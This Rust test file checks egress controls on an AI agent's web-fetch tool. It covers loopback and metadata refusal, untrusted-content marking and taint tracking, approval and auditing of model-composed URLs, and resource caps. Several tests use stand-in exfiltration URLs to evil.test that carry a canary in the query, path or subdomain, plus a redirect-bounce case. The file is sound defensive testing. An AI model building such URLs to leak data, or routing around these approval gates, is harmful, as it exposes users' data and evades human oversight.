//! web_fetch against the fake web on 127.0.0.1, names resolved only by a counting test
//! resolver. Addresses: loopback is refused unless explicitly allowed, a redirect to the cloud
//! metadata address is refused. Pages come back as marked-untrusted text, capped, binaries
//! refused; a page taints the run and its links become known. Egress: a URL the model composed
//! (canary in the query, the path, a subdomain label) asks, and refused it makes no lookup and
//! no connection; approved it is fetched and audited; an allowed host redirecting to an
//! unlisted one asks again; the user's URL and the links on its page need no approval.
//!
//! Deeply nested HTML, through the real `warden run` and `warden bot`: read in seconds with
//! bounded memory; made slow on purpose (its nesting cap raised), Ctrl-C and `/stop` still
//! interrupt the conversion within a second.

use crate::support;

use crate::support::fake_web::FakeWeb;
use async_trait::async_trait;
use serde_json::json;
use std::sync::{Arc, Mutex};
use warden::audit::{self, AuditDecision};
use warden::db::Database;
use warden::egress::HostRules;
use warden::tools::approval::{Approval, ApprovalRequest, Approver, NoApprover};
use warden::tools::gate::Gate;
use warden::tools::web_fetch::WebFetch;
use warden::tools::{Tool, ToolContext, ToolOutput};

const CANARY: &str = "canary-7f3a9c";

/// Answers every request the same way and keeps what it was asked.
struct Recording {
    approve: bool,
    asked: Mutex<Vec<ApprovalRequest>>,
}

impl Recording {
    fn new(approve: bool) -> Arc<Recording> {
        Arc::new(Recording {
            approve,
            asked: Mutex::new(Vec::new()),
        })
    }

    fn asked(&self) -> Vec<ApprovalRequest> {
        self.asked.lock().unwrap().clone()
    }
}

#[async_trait]
impl Approver for Recording {
    async fn approve(&self, request: &ApprovalRequest) -> Approval {
        self.asked.lock().unwrap().push(request.clone());
        if self.approve {
            Approval::Approved
        } else {
            Approval::Denied("denied by the test's approver".into())
        }
    }
}

struct Setup {
    web: FakeWeb,
    resolver: support::fake_web::TestResolver,
    db: Arc<Database>,
    fetch: WebFetch,
}

/// The fake web, `rules` as `[egress.hosts]`, 127.0.0.1 reachable when `loopback`.
async fn setup(rules: &[(&str, &str)], loopback: bool) -> Setup {
    let web = FakeWeb::start().await;
    let resolver = web.resolver();
    let db = warden::schema::open_in_memory().unwrap();
    let hosts = rules
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let gate = Gate::new(HostRules::parse(&hosts).unwrap(), db.clone());
    let fetch = WebFetch::new(Arc::new(gate), resolver.names(loopback)).unwrap();
    Setup {
        web,
        resolver,
        db,
        fetch,
    }
}

impl Setup {
    async fn get(&self, url: &str, ctx: &ToolContext) -> ToolOutput {
        self.fetch.run(&json!({ "url": url }), ctx).await
    }

    /// The egress audit rows: (decision, url).
    fn egress_rows(&self) -> Vec<(String, String)> {
        audit::recent(&self.db, 100)
            .unwrap()
            .into_iter()
            .filter(|r| r.tool == "egress")
            .map(|r| {
                let input: serde_json::Value = serde_json::from_str(&r.input).unwrap();
                (r.decision, input["url"].as_str().unwrap().to_string())
            })
            .collect()
    }
}

/// A run in which the user wrote `message`, approvals going to `approver`.
fn run(message: &str, approver: Arc<dyn Approver>) -> ToolContext {
    let mut ctx = ToolContext::detached("test");
    ctx.approver = approver;
    ctx.provenance.add_user_text(message);
    ctx
}

#[tokio::test]
async fn loopback_is_refused_unless_explicitly_allowed() {
    let s = setup(&[], false).await;
    let port = s.web.addr.port();
    for url in [
        format!("http://127.0.0.1:{port}/page"),
        format!("http://localhost:{port}/page"),
        "http://docs.test/page".to_string(),
    ] {
        let ctx = run(&format!("read {url}"), Arc::new(NoApprover));
        let out = s.get(&url, &ctx).await;
        assert!(out.is_error, "{url}: {}", out.content);
        assert_eq!(out.decision, AuditDecision::Deny, "{url}: {}", out.content);
        assert!(out.content.contains("loopback"), "{url}: {}", out.content);
        assert!(out.content.contains("refusing"), "{url}: {}", out.content);
    }
    // Only the name had to be looked up to learn it is loopback; nothing was connected to.
    assert_eq!(s.resolver.lookups(), ["docs.test"]);
    assert_eq!(s.web.connections(), 0);
}

#[tokio::test]
async fn pages_come_back_as_marked_untrusted_text_and_taint_the_run() {
    let s = setup(&[], true).await;
    let ctx = run(
        "look at http://docs.test/page http://docs.test/big http://docs.test/image",
        Arc::new(NoApprover),
    );
    assert!(!ctx.taint.is_tainted());
    let out = s.get("http://docs.test/page", &ctx).await;
    assert!(!out.is_error, "{}", out.content);
    assert_eq!(out.decision, AuditDecision::Allow);
    assert!(out.content.contains("Hello"));
    assert!(out.content.contains("UNTRUSTED"));
    assert!(out.content.contains("<untrusted_content>"));
    assert!(
        !out.content.contains("<h1>"),
        "HTML was converted: {}",
        out.content
    );
    assert_eq!(
        ctx.taint.sources(),
        ["web_fetch http://docs.test/page"],
        "the page taints the run"
    );

    let big = s.get("http://docs.test/big", &ctx).await;
    assert!(
        big.content.contains("cut at 2.0 MB (caps.web_bytes)"),
        "{}",
        &big.content[..200]
    );

    let image = s.get("http://docs.test/image", &ctx).await;
    assert!(
        image.is_error && image.content.contains("image/png"),
        "{}",
        image.content
    );
}

#[tokio::test]
async fn redirects_to_metadata_are_refused() {
    let s = setup(&[], true).await;
    let ctx = run("http://docs.test/meta", Arc::new(NoApprover));
    let out = s.get("http://docs.test/meta", &ctx).await;
    assert!(out.is_error, "{}", out.content);
    assert!(out.content.contains("169.254.169.254"), "{}", out.content);
    assert!(out.content.contains("link-local"), "{}", out.content);
    assert_eq!(s.web.connections(), 1, "only the first hop was made");
}

/// A canary in the query, the path and a subdomain label of a URL the model composed.
fn canary_urls() -> Vec<String> {
    vec![
        format!("http://evil.test/collect?d={CANARY}&n=1"),
        format!("http://evil.test/{CANARY}/x.png"),
        format!("http://{CANARY}.evil.test/"),
    ]
}

#[tokio::test]
async fn composed_urls_with_nobody_to_approve_are_refused_before_any_lookup() {
    let s = setup(&[], true).await;
    let ctx = run(
        "fetch the page at http://docs.test/page",
        Arc::new(NoApprover),
    );
    for url in canary_urls() {
        let out = s.get(&url, &ctx).await;
        assert!(out.is_error, "{url}: {}", out.content);
        assert_eq!(out.decision, AuditDecision::Rejected, "{}", out.content);
        assert!(
            out.content.contains("the model composed this URL"),
            "{}",
            out.content
        );
        let host = url::Url::parse(&url)
            .unwrap()
            .host_str()
            .unwrap()
            .to_string();
        assert!(
            out.content
                .contains(&format!("[egress.hosts] \"{host}\" = \"allow\"")),
            "the reason names the key to change: {}",
            out.content
        );
    }
    assert!(
        s.resolver.lookups().is_empty(),
        "{:?}",
        s.resolver.lookups()
    );
    assert_eq!(s.web.connections(), 0);
    let rows = s.egress_rows();
    assert_eq!(rows.len(), 3);
    assert!(rows
        .iter()
        .all(|(d, u)| d == "rejected" && u.contains(CANARY)));
}

#[tokio::test]
async fn composed_urls_an_approver_denies_are_refused_before_any_lookup() {
    let s = setup(&[], true).await;
    let approver = Recording::new(false);
    let ctx = run("hello", approver.clone());
    for url in canary_urls() {
        let out = s.get(&url, &ctx).await;
        assert_eq!(out.decision, AuditDecision::Rejected, "{}", out.content);
        assert!(
            out.content.contains("denied by the test's approver"),
            "{}",
            out.content
        );
    }
    let asked = approver.asked();
    assert_eq!(asked.len(), 3);
    // Each approval shows the exact URL, its query decoded, and why.
    assert!(asked[0]
        .command
        .starts_with("GET http://evil.test/collect?d="));
    assert!(
        asked[0].command.contains(&format!("\n  d = {CANARY}")),
        "{}",
        asked[0].command
    );
    assert!(asked[2]
        .command
        .contains(&format!("host: {CANARY}.evil.test")));
    assert!(asked.iter().all(|a| a.tool == "web_fetch"
        && a.reason
            .contains("did not appear in your messages or in fetched pages")));
    assert!(
        s.resolver.lookups().is_empty(),
        "{:?}",
        s.resolver.lookups()
    );
    assert_eq!(s.web.connections(), 0);
}

#[tokio::test]
async fn an_approved_composed_url_is_fetched_and_audited() {
    let s = setup(&[], true).await;
    let approver = Recording::new(true);
    let ctx = run("hello", approver.clone());
    let url = format!("http://evil.test/collect?d={CANARY}");
    let out = s.get(&url, &ctx).await;
    assert!(!out.is_error, "{}", out.content);
    assert_eq!(out.decision, AuditDecision::Approved);
    assert_eq!(approver.asked().len(), 1);
    assert_eq!(s.web.requests(), [format!("evil.test/collect?d={CANARY}")]);
    assert_eq!(s.resolver.lookups(), ["evil.test"]);
    assert_eq!(s.egress_rows(), [("approved".to_string(), url)]);
}

#[tokio::test]
async fn an_allowed_host_redirecting_to_an_unlisted_one_asks_again() {
    let s = setup(&[("allowed.test", "allow")], true).await;
    let target = format!("http://unlisted.test/c?d={CANARY}");
    let composed = format!(
        "http://allowed.test/bounce?to={}",
        url::form_urlencoded::byte_serialize(target.as_bytes()).collect::<String>()
    );

    // Nobody to approve: the allowed hop is made, the redirect is not.
    let ctx = run("hello", Arc::new(NoApprover));
    let out = s.get(&composed, &ctx).await;
    assert_eq!(out.decision, AuditDecision::Rejected, "{}", out.content);
    assert!(out.content.contains("redirected here"), "{}", out.content);
    assert!(out.content.contains(&target), "{}", out.content);
    assert_eq!(s.resolver.lookups(), ["allowed.test"]);
    assert_eq!(s.web.connections(), 1);
    assert_eq!(
        s.egress_rows(),
        [
            ("allow".to_string(), composed.clone()),
            ("rejected".to_string(), target.clone())
        ]
    );

    // Approved: both hops made; only the redirect asked.
    let approver = Recording::new(true);
    let ctx = run("hello", approver.clone());
    let out = s.get(&composed, &ctx).await;
    assert_eq!(out.decision, AuditDecision::Approved, "{}", out.content);
    let asked = approver.asked();
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0].command.starts_with(&format!("GET {target}")),
        "{}",
        asked[0].command
    );
    assert!(s
        .web
        .requests()
        .contains(&format!("unlisted.test/c?d={CANARY}")));
}

#[tokio::test]
async fn the_users_url_and_the_links_on_its_page_need_no_approval() {
    let s = setup(&[], true).await;
    let approver = Recording::new(false);
    let ctx = run("summarize http://docs.test/page please", approver.clone());
    for url in [
        "http://docs.test/page",
        "http://docs.test/next",
        "http://other.test/linked?from=page",
    ] {
        let out = s.get(url, &ctx).await;
        assert!(!out.is_error, "{url}: {}", out.content);
        assert_eq!(out.decision, AuditDecision::Allow);
    }
    assert!(approver.asked().is_empty(), "{:?}", approver.asked());
    assert_eq!(
        s.web.requests(),
        [
            "docs.test/page",
            "docs.test/next",
            "other.test/linked?from=page"
        ]
    );

    // A URL of the model's own on a host the run already visited still asks, and says the
    // run is tainted.
    let out = s.get(&format!("http://other.test/?d={CANARY}"), &ctx).await;
    assert_eq!(out.decision, AuditDecision::Rejected);
    let asked = approver.asked();
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0]
            .reason
            .contains("this run read untrusted content from: web_fetch http://docs.test/page"),
        "{}",
        asked[0].reason
    );
    assert_eq!(s.web.requests().len(), 3);
}

#[tokio::test]
async fn host_rules_decide_before_provenance() {
    let s = setup(&[("docs.test", "deny"), ("*.test", "ask")], true).await;
    let approver = Recording::new(false);
    let ctx = run(
        "http://docs.test/page http://other.test/x",
        approver.clone(),
    );
    let denied = s.get("http://docs.test/page", &ctx).await;
    assert_eq!(denied.decision, AuditDecision::Deny, "{}", denied.content);
    assert!(
        denied.content.contains("\"docs.test\" = \"deny\""),
        "{}",
        denied.content
    );
    assert!(approver.asked().is_empty());
    let asked = s.get("http://other.test/x", &ctx).await;
    assert_eq!(asked.decision, AuditDecision::Rejected, "{}", asked.content);
    assert!(approver.asked()[0].reason.contains("\"*.test\" = \"ask\""));
    assert!(s.resolver.lookups().is_empty());
    assert_eq!(s.web.connections(), 0);
}

/// `warden run` asked to read the fake web's `/nested` page, `config` added to its config.
fn nested_run(
    web: &FakeWeb,
    llm: &support::fake_llm::FakeLlm,
    config: &str,
) -> (tempfile::TempDir, std::process::Command) {
    let home = tempfile::tempdir().unwrap();
    support::warden_run::write_config(home.path(), &format!("{}{config}", web.resolve_toml()));
    let command = support::warden_run::warden_run_command(
        home.path(),
        &llm.base_url(),
        "What does http://docs.test/nested say?",
    );
    (home, command)
}

fn fetch_nested() -> support::fake_llm::Turn {
    support::fake_llm::Turn::tool_use("web_fetch", json!({"url": "http://docs.test/nested"}))
}

/// Nesting kept as deep as the caps allow: the conversion takes minutes.
const SLOW_CAPS: &str = "[caps]\nhtml_depth = 10000\nconvert_secs = 600\n";

#[tokio::test]
async fn a_deeply_nested_page_is_read_in_seconds_with_bounded_memory() {
    let web = FakeWeb::start().await;
    let llm = support::fake_llm::FakeLlm::anthropic(vec![
        fetch_nested(),
        support::fake_llm::Turn::text("read it"),
    ])
    .await;
    let (_home, command) = nested_run(&web, &llm, "");
    let started = std::time::Instant::now();
    let measured = tokio::task::spawn_blocking(move || support::resources::run_bounded(command))
        .await
        .unwrap();
    let stdout = String::from_utf8_lossy(&measured.output.stdout);
    assert_eq!(measured.output.status.code(), Some(0), "{measured:?}");
    assert_eq!(stdout.trim(), "read it");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    measured.assert_bounded();
    let result = &llm.requests()[1].tool_results()[0];
    assert!(!result.is_error, "{}", result.content);
    assert!(result.content.contains("deep text"), "{}", result.content);
}

#[tokio::test]
async fn ctrl_c_interrupts_a_slow_conversion_within_a_second() {
    let web = FakeWeb::start().await;
    let llm = support::fake_llm::FakeLlm::anthropic(vec![
        fetch_nested(),
        support::fake_llm::Turn::text("never reached"),
    ])
    .await;
    let (_home, mut command) = nested_run(&web, &llm, SLOW_CAPS);
    command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = command.spawn().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !web.requests().iter().any(|r| r.ends_with("/nested")) {
        assert!(
            std::time::Instant::now() < deadline,
            "the page was never fetched"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    // Well into the conversion.
    tokio::time::sleep(std::time::Duration::from_millis(700)).await;
    let signalled = std::time::Instant::now();
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = tokio::task::spawn_blocking(move || child.wait_with_output().unwrap())
        .await
        .unwrap();
    let took = signalled.elapsed();
    assert!(
        took < std::time::Duration::from_secs(1),
        "exiting took {took:?}"
    );
    assert_eq!(status.status.code(), Some(130), "{status:?}");
    assert_eq!(llm.request_count(), 1, "the run went on after Ctrl-C");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stop_interrupts_a_slow_conversion_within_a_second_and_the_chat_goes_on() {
    use crate::support::warden_bot::OWNER;
    fn script(req: &support::fake_llm::Request) -> support::fake_llm::Turn {
        let newest_is_result = req.messages().last().is_some_and(|m| {
            m["content"]
                .as_array()
                .is_some_and(|blocks| blocks.iter().any(|b| b["type"] == "tool_result"))
        });
        if newest_is_result {
            return support::fake_llm::Turn::text("result: read");
        }
        match req.last_user_text().contains("docs.test/nested") {
            true => fetch_nested(),
            false => support::fake_llm::Turn::text("result: still answering"),
        }
    }
    let bot = support::web_bot::WebBot::start_with(script, SLOW_CAPS).await;
    bot.tg
        .push_text(OWNER, OWNER, "read http://docs.test/nested please");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !bot.web.requests().iter().any(|r| r.ends_with("/nested")) {
        assert!(
            std::time::Instant::now() < deadline,
            "the page was never fetched"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    tokio::time::sleep(std::time::Duration::from_millis(700)).await;
    let asked = std::time::Instant::now();
    bot.tg.push_text(OWNER, OWNER, "/stop");
    bot.tg
        .wait_until("the run stops", support::web_bot::WAIT, |t| {
            t.messages_to(OWNER).iter().any(|m| m.visible == "Stopped.")
        })
        .await;
    let took = asked.elapsed();
    assert!(
        took < std::time::Duration::from_secs(1),
        "stopping took {took:?}"
    );
    bot.tg.push_text(OWNER, OWNER, "are you there?");
    assert_eq!(bot.answer(1).await, "result: still answering");
}
